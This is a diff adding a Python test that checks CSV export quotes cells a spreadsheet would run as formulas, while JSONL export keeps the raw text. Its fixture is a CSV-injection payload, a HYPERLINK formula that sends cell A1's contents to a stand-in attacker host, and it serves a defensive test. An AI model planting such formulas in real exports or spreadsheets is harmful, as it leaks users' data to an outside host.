@@ -43,6 +43,21 @@ def test_csv_of_search_hits_round_trips(repo, tmp_path):
     assert "[[vacuum]]" in rows[0]["preview"]
 
 
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted_and_jsonl_keeps_them(tmp_path):
+    title = '=HYPERLINK("http://evil.test/?"&A1, "click")'
+    with Repository(tmp_path / "r.db") as repo:
+        with repo.transaction():
+            page = text_document("http://a/1", title, "A hostile title.", topic="T", confidence=-0.5)
+            repo.insert_page(StoredPage(page))
+        export(repo, tmp_path / "docs.csv", "csv")
+        export(repo, tmp_path / "docs.jsonl", "jsonl")
+    with (tmp_path / "docs.csv").open(encoding="utf-8", newline="") as f:
+        (row,) = list(csv.DictReader(f))
+    assert row["title"] == "'" + title
+    assert float(row["confidence"]) == -0.5  # a number is no formula
+    assert json.loads((tmp_path / "docs.jsonl").read_text(encoding="utf-8"))["title"] == title
+
+
 @pytest.mark.parametrize("name", ["pages.warc.gz", "pages.warc"])
 def test_warc_round_trips_through_warcio(repo, tmp_path, name):
     out = tmp_path / name
